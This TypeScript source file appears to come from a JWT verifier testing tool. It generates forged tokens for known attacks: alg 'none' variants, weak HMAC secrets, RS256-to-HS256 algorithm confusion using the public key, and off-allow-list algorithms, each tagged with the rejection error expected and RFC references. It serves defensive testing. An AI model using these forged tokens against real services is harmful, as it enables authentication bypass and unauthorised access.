import { defineAttack, type AttackContext, type AttackEntry } from '../attack';
import type { AsymmetricAlgorithm } from '../attacker';
import { compactToken } from '../compact-token';
import { publicKeyEncodings, utf8 } from '../public-key-encodings';
import type { RawAlgorithm } from '../raw-signature';
import { validParts } from '../valid-token';
import { FORGED_CLAIMS } from './signature-attacks';

const family = (alg: string): string => alg.slice(0, 2);

export const algNone = defineAttack(
  {
    id: 'A2',
    name: 'Unsecured token (alg none)',
    note: 'An unsigned token with alg "none" (and its case variants) that a verifier must never accept by default.',
    clauses: ['RFC 7518 §3.6', 'RFC 8725 §3.1', 'RFC 8725 §3.2', 'RFC 9068 §4'],
    checklist: [1],
  },
  async ({ target }) => {
    const { claims } = validParts(target, { claims: FORGED_CLAIMS });
    return Promise.all(
      ['none', 'None', 'NONE', 'nOnE'].map(async (alg) => ({
        variant: alg,
        // RFC 7519 §6.1: an Unsecured JWT's header is {"alg":"none"} (typ kept), signature empty.
        token: await compactToken({ alg, typ: target.typ }, claims, {
          kind: 'text',
          text: '',
        }),
        note: `Header alg "${alg}", forged claims, empty signature segment.`,
        strict: 'ERR_JOSE_ALG_NOT_ALLOWED' as const,
      })),
    );
  },
);

export const weakSecret = defineAttack(
  {
    id: 'A4',
    name: 'Weak HMAC secret',
    note: 'A token MACed with a guessable secret, as an attacker does after cracking a weak HS256 key offline.',
    clauses: ['RFC 8725 §3.5', 'RFC 7518 §3.2', 'OWASP JWT Cheat Sheet (HMAC secret strength)'],
    checklist: [5],
  },
  async ({ target }) => {
    const alg: RawAlgorithm = family(target.key.alg) === 'HS' ? target.key.alg : 'HS256';
    const strict =
      alg === target.key.alg ? 'ERR_JWS_SIGNATURE_VERIFICATION_FAILED' : 'ERR_JOSE_ALG_NOT_ALLOWED';
    const { header, claims } = validParts(target, {
      header: { alg },
      claims: FORGED_CLAIMS,
    });
    return Promise.all(
      ['', 'secret', 'your-256-bit-secret'].map(async (secret) => ({
        variant: secret === '' ? 'empty-secret' : secret,
        token: await compactToken(header, claims, {
          kind: 'sign',
          alg,
          key: utf8(secret),
        }),
        note: `${alg} with the secret "${secret}".`,
        strict,
      })),
    );
  },
);

async function confusionEntries(context: AttackContext, prefix: string): Promise<AttackEntry[]> {
  const { target } = context;
  if (!target.key.publicJwk) return [];
  const encodings = await publicKeyEncodings(target.key.publicJwk, target.key.alg);
  const { header, claims } = validParts(target, {
    header: { alg: 'HS256' },
    claims: FORGED_CLAIMS,
  });
  const secrets: Array<[string, Uint8Array, string]> = [
    ['pem', utf8(encodings.pem), 'the SPKI PEM text of the published public key'],
    [
      'pem-newline',
      utf8(`${encodings.pem}\n`),
      'the PEM text with a trailing newline, as read from a .pem file',
    ],
    ['der', encodings.der, 'the DER bytes of the published public key'],
    ['jwk-json', utf8(encodings.jwkJson), 'the published JWK serialised as JSON'],
  ];
  if (encodings.modulus) secrets.push(['modulus', utf8(encodings.modulus), 'the base64url RSA modulus n']);
  return Promise.all(
    secrets.map(async ([variant, secret, what]) => ({
      variant: `${prefix}${variant}`,
      token: await compactToken(header, claims, {
        kind: 'sign',
        alg: 'HS256',
        key: secret,
      }),
      note: `HS256 keyed with ${what} (kid ${target.key.kid}).`,
      strict: 'ERR_JOSE_ALG_NOT_ALLOWED' as const,
    })),
  );
}

export const algorithmConfusion = defineAttack(
  {
    id: 'A5',
    name: 'Algorithm confusion RS256 → HS256',
    note: "An HS256 token whose HMAC key is the server's public key, accepted by verifiers that take alg from the header.",
    clauses: [
      'RFC 8725 §2.1',
      'RFC 8725 §3.1',
      'RFC 7515 §10.7',
      'OWASP JWT Cheat Sheet (key type confusion)',
    ],
    checklist: [3],
  },
  (context) => confusionEntries(context, ''),
);

export const confusionWithoutExposedKey = defineAttack(
  {
    id: 'A6',
    name: 'Algorithm confusion without an exposed key',
    note: 'The public key is recovered from two RS256 signatures (sig2n), then used as in A5: public keys are not secrets.',
    clauses: ['RFC 8725 §3.1', 'RFC 7515 §10.7'],
    checklist: [3],
  },
  // Recovering n from two signatures yields the same public key the JWKS already publishes, so the
  // tokens are A5's built from that key; only the attacker's route to the key differs.
  async (context) => (family(context.target.key.alg) === 'RS' ? confusionEntries(context, 'recovered-') : []),
);

export const offListAlgorithm = defineAttack(
  {
    id: 'C2',
    name: 'Algorithm outside the allow-list',
    note: 'A token correctly signed with a valid key of another type, which a verifier without an algorithm allow-list checks with that type.',
    clauses: ['RFC 8725 §3.1', 'RFC 7515 §10.7', 'OWASP ASVS 5.0 9.1.2'],
    checklist: [2],
  },
  async ({ target, attacker }) => {
    const others = (['RS256', 'PS256', 'ES256', 'Ed25519'] as AsymmetricAlgorithm[]).filter(
      (alg) => family(alg) !== family(target.key.alg),
    );
    const entries: AttackEntry[] = await Promise.all(
      others.map(async (alg) => {
        const key = await attacker.key(alg);
        const { header, claims } = validParts(target, {
          header: { alg },
          claims: FORGED_CLAIMS,
        });
        return {
          variant: alg,
          token: await compactToken(header, claims, {
            kind: 'sign',
            alg,
            key: key.privateKey,
          }),
          note: `${alg} signed by a valid ${alg} key the attacker holds, under the issuer's kid.`,
          strict: 'ERR_JOSE_ALG_NOT_ALLOWED' as const,
        };
      }),
    );
    if (family(target.key.alg) !== 'HS') {
      const { header, claims } = validParts(target, {
        header: { alg: 'HS256' },
        claims: FORGED_CLAIMS,
      });
      const secret = crypto.getRandomValues(new Uint8Array(32));
      entries.push({
        variant: 'HS256',
        token: await compactToken(header, claims, {
          kind: 'sign',
          alg: 'HS256',
          key: secret,
        }),
        note: 'HS256 with a strong random secret the attacker chose, under the issuer kid.',
        strict: 'ERR_JOSE_ALG_NOT_ALLOWED',
      });
    }
    return entries;
  },
);
